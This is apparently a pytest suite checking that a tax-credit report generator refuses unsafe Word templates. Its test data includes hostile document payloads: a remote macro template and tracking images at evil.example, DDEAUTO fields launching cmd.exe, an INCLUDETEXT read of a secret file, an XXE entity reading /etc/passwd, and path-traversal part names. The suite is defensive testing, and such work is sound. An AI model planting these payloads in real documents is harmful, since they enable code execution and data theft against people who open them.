"""Templates: what they may not hold, how they may be cut, and the shipped one."""

import os
import runpy
import shutil
import sys

import pytest
from narrative_docx import SHIPPED, VERSION, changed, first_paragraph, own_template, plain, small_template, text
from narrative_material import material

from rdcredit.errors import Exit, Refused
from rdcredit.render.docx_inspection import TEMPLATE_VERSION, inspect_template
from rdcredit.render.narrative import template_for, write_study

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES, RELS, DOCUMENT = "[Content_Types].xml", "word/_rels/document.xml.rels", "word/document.xml"


def relationship(kind, target, *, external):
    mode = ' TargetMode="External"' if external else ""
    return (RELS, "</Relationships>",
            f'<Relationship Id="x" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>')  # fmt: skip


def field(*pieces):
    inside = "".join(f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in pieces)
    return first_paragraph(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inside}'
                           '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')  # fmt: skip


ACTIVE = {
    "remote template": relationship("attachedTemplate", "https://evil.example/x.dotm", external=True),
    "local attached template": relationship("attachedTemplate", "x.dotm", external=False),
    "linked image": relationship("image", "http://evil.example/pixel.png", external=True),
    "linked image on a share": relationship("image", "file://server/share/x.png", external=True),
    "hyperlink": relationship("hyperlink", "https://evil.example/", external=True),
    "OLE object": relationship("oleObject", "embeddings/oleObject1.bin", external=False),
    "imported document": relationship("aFChunk", "chunk.html", external=False),
    "macro": (TYPES, "wordprocessingml.document.main+xml", "x"),
    "DDE field": field(" DDEAUTO c:\\\\windows\\\\cmd.exe x "),
    "DDE field in pieces": field(" D", "DE", "AUTO excel x"),
    "DDE hidden by quoting": field(" QUOTE 68 68 69 "),
    "included text": field(' INCLUDETEXT "c:\\secret.txt" '),
    "included picture": field(' INCLUDEPICTURE "http://evil.example/x.png" '),
    "link field": field(" LINK Excel.Sheet.12 x "),
    "macro button": field(" MACROBUTTON run x "),
    "computed field": field(" = 400000 + 12000 "),
    "date field": field(" DATE "),
    "placeholder in a field": field(" PAGEREF {{ cover.taxpayer }} "),
    "simple field": first_paragraph('<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>'),
    "embedded object": first_paragraph("<w:p><w:r><w:object/></w:r></w:p>"),
    "alternative chunk": first_paragraph('<w:altChunk r:id="x"/>'),
    "mail merge": ("word/settings.xml", "<w:zoom", "<w:mailMerge/><w:zoom"),
    "document type": (DOCUMENT, "<w:document", '<!DOCTYPE d [<!ENTITY e "x">]><w:document'),
    "external entity": (DOCUMENT, "<w:document", '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document'),
}  # fmt: skip


@pytest.mark.parametrize("edit", ACTIVE.values(), ids=ACTIVE)
def test_a_template_that_could_run_or_fetch_is_refused(edit, tmp_path):
    if edit == ACTIVE["macro"]:
        edit = (TYPES, f"application/vnd.openxmlformats-officedocument.{edit[1]}",
                "application/vnd.ms-word.document.macroEnabled.main+xml")  # fmt: skip
    folder = own_template(tmp_path, [edit])
    with pytest.raises(Refused) as refused:
        write_study(material(), tmp_path / "study.docx", folder)
    assert {p.code for p in refused.value.problems} & {"E685"}
    assert refused.value.exit_code() is Exit.SAFETY
    assert not (tmp_path / "study.docx").exists()


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/embeddings/x.xlsx", "word/activeX/activeX1.xml"])
def test_a_template_with_an_embedded_part_is_refused(name, tmp_path):
    folder = own_template(tmp_path, added=[(name, b"<x/>")])
    with pytest.raises(Refused) as refused:
        write_study(material(), tmp_path / "study.docx", folder)
    assert [p.code for p in refused.value.problems] == ["E685"]


@pytest.mark.parametrize("name", ["../../evil.xml", "/evil.xml", "word\\evil.xml", "WORD/document.xml"])
def test_a_part_outside_the_document_is_refused(name, tmp_path):
    folder = own_template(tmp_path, added=[(name, b"<x/>")])
    with pytest.raises(Refused) as refused:
        write_study(material(), tmp_path / "study.docx", folder)
    assert [p.code for p in refused.value.problems] == ["E685"]


@pytest.mark.parametrize("data", [b"", b"not a package", b"PK\x03\x04 cut"])
def test_a_file_that_is_no_document_is_refused(data, tmp_path):
    (tmp_path / "study.docx").write_bytes(data)
    with pytest.raises(Refused) as refused:
        write_study(material(), tmp_path / "out.docx", tmp_path)
    assert [p.code for p in refused.value.problems] == ["E685"]


TORN = {
    "never closed": plain("Credit: {{ summary.credit.shown"),
    "one brace": plain("Credit: {{ summary.credit.shown }"),
    "never opened": plain("Credit: summary.credit.shown }}"),
    "spaced braces": plain("Credit: { { summary.credit.shown } }"),
    "over two paragraphs": plain("Credit: {{ summary.") + plain("credit.shown }}"),
    "statement": plain("{% if x"),
    "markup": plain("{{r summary.headline }}"),
}


@pytest.mark.parametrize("markup", TORN.values(), ids=TORN)
def test_a_torn_placeholder_is_refused_with_the_text_of_its_paragraph(markup, tmp_path):
    folder = own_template(tmp_path, [first_paragraph(markup)])
    with pytest.raises(Refused) as refused:
        write_study(material(), tmp_path / "study.docx", folder)
    assert {p.code for p in refused.value.problems} == {"E690"}
    torn = markup.split('preserve">')[1].split("</w:t>")[0]
    assert f'"{torn}"' in refused.value.problems[0].what
    assert not (tmp_path / "study.docx").exists()


def test_every_torn_placeholder_is_reported_at_once(tmp_path):
    folder = own_template(tmp_path, [first_paragraph(plain("{{ a") + plain("b }}"))])
    with pytest.raises(Refused) as refused:
        write_study(material(), tmp_path / "study.docx", folder)
    assert len(refused.value.problems) == 2


def test_tracked_changes_do_not_travel_with_a_study(tmp_path):
    gone = '<w:p><w:del w:author="A" w:id="1"><w:r><w:delText>secret</w:delText></w:r></w:del></w:p>'
    folder = own_template(tmp_path, [first_paragraph(gone)])
    with pytest.raises(Refused) as refused:
        write_study(material(), tmp_path / "study.docx", folder)
    assert [p.code for p in refused.value.problems] == ["E690"]
    assert "tracked changes" in refused.value.problems[0].what


@pytest.mark.parametrize(
    ("line", "said"),
    [
        (f"{{#p rdcredit study template, version {TEMPLATE_VERSION + 1} #}}", f"version {TEMPLATE_VERSION + 1};"),
        ("{#p our template #}", "does not say its version"),
    ],
)
def test_a_template_of_another_version_is_refused(line, said, tmp_path):
    folder = own_template(tmp_path, [(DOCUMENT, VERSION, line)])
    with pytest.raises(Refused) as refused:
        write_study(material(), tmp_path / "study.docx", folder)
    assert [p.code for p in refused.value.problems] == ["E709"]
    assert said in refused.value.problems[0].what


REQUIRED = {
    "the reconciliation": (DOCUMENT, "{{ reconciliation.statement }}"),
    "the limits": (DOCUMENT, "for text in scope.limits"),
    "the assumptions": (DOCUMENT, "for text in scope.assumptions"),
    "the statement of responsibility": (DOCUMENT, "for text in signature.responsibility"),
    "the digest of the inputs": (DOCUMENT, "{{ cover.digest }}"),
    "the status in every header": ("word/header1.xml", "{{ status.word }}"),
}


@pytest.mark.parametrize(("what", "edit"), REQUIRED.items(), ids=REQUIRED)
def test_a_template_cannot_leave_out_what_every_study_carries(what, edit, tmp_path):
    part, old = edit
    new = "for text in scope.reliance" if old.startswith("for") else "{{ cover.taxpayer }}"
    folder = own_template(tmp_path, [(part, old, new)])
    with pytest.raises(Refused) as refused:
        write_study(material(), tmp_path / "study.docx", folder)
    assert [p.code for p in refused.value.problems] == ["E692"]
    assert what in refused.value.problems[0].what
    assert not (tmp_path / "study.docx").exists()


def test_a_study_may_bring_its_own_template(tmp_path):
    folder = own_template(tmp_path, [first_paragraph(plain("House style of {{ cover.firm }}"))])
    assert write_study(material(), tmp_path / "study.docx", folder) == ()
    assert text(tmp_path / "study.docx").startswith("House style of Tindle Advisory, CPAs")


def test_without_one_of_its_own_a_study_uses_the_shipped_template(tmp_path):
    assert template_for(tmp_path)[0] == SHIPPED
    assert template_for(None)[0] == SHIPPED


@pytest.mark.skipif(sys.platform == "win32", reason="links need rights")
@pytest.mark.parametrize("kind", ["link", "folder link", "pipe", "folder"])
def test_a_template_that_leads_out_of_the_folder_is_refused(kind, tmp_path):
    outside = tmp_path / "outside"
    shutil.copytree(own_template(tmp_path / "elsewhere"), outside)
    folder = tmp_path / "templates"
    if kind == "folder link":
        folder.symlink_to(outside)
    else:
        folder.mkdir()
        own = folder / "study.docx"
        {"link": lambda: own.symlink_to(outside / "study.docx"), "pipe": lambda: os.mkfifo(own),
         "folder": own.mkdir}[kind]()  # fmt: skip
    with pytest.raises(Refused) as refused:
        write_study(material(), tmp_path / "study.docx", folder)
    assert [p.code for p in refused.value.problems] == ["E694"]


def test_the_shipped_template_is_what_its_builder_writes(tmp_path, monkeypatch):
    monkeypatch.syspath_prepend(str(SHIPPED.parent))
    monkeypatch.setattr(sys, "dont_write_bytecode", True)
    runpy.run_path(str(SHIPPED.parent / "build_study_template.py"))["main"](tmp_path / "study.docx")
    assert (tmp_path / "study.docx").read_bytes() == SHIPPED.read_bytes()


def test_the_shipped_template_and_an_ordinary_one_pass_the_inspection(tmp_path):
    inspect_template(SHIPPED, "shipped")
    inspect_template(small_template(tmp_path / "t.docx", body="{{ cover.taxpayer }}"), "ordinary")
    inspect_template(changed(SHIPPED, tmp_path / "copy.docx"), "copy")
